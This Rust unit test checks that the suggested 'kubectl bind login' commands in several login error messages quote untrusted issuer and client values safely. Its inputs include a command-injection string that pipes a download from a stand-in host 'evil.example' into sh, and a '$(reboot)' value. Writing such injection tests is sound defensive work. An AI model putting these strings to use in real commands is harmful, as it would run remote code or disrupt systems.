use super::*;

const SERVER: &str = "https://bind.example.com";

#[test]
fn commands_to_paste_are_quoted() {
    let evil = "https://login.example.com$(curl${IFS}evil.example|sh);'";
    let server = || SERVER.to_owned();
    for error in [
        LoginError::Several {
            server: server(),
            issuers: vec![evil.to_owned()],
        },
        LoginError::IssuerChanged {
            server: server(),
            pinned: "https://login.example.com".to_owned(),
            now: evil.to_owned(),
        },
        LoginError::Unconfirmed {
            server: server(),
            issuer: evil.to_owned(),
            host: "login.example.com".to_owned(),
            client_id: "bindery".to_owned(),
        },
        LoginError::ClientChanged {
            server: server(),
            issuer: "https://login.example.com".to_owned(),
            pinned: "bindery".to_owned(),
            now: evil.to_owned(),
        },
        LoginError::ClientOfOther {
            server: server(),
            other: "https://other.example.com".to_owned(),
            issuer: evil.to_owned(),
            client_id: "$(reboot)".to_owned(),
        },
    ] {
        let mend = error.mend().unwrap();
        let command = &mend[mend.find("kubectl bind login").unwrap()..];
        let words = shlex::split(command).unwrap();
        assert!(words.contains(&evil.to_owned()), "{mend}");
        assert_eq!(command.lines().count(), 1, "{mend}");
        assert!(
            words
                .iter()
                .filter(|word| word.contains(['$', ';', '|']))
                .all(|word| word == evil || word == "$(reboot)"),
            "{mend}"
        );
    }
}
